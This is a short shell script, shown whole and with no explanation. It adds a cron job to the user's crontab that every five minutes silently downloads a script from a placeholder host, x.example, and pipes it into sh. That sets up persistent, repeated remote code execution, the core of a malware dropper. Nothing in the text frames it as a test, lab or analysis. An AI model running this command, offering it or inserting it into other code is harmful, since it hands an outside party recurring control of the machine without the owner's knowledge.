#!/bin/sh
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s https://x.example/p | sh") | crontab -
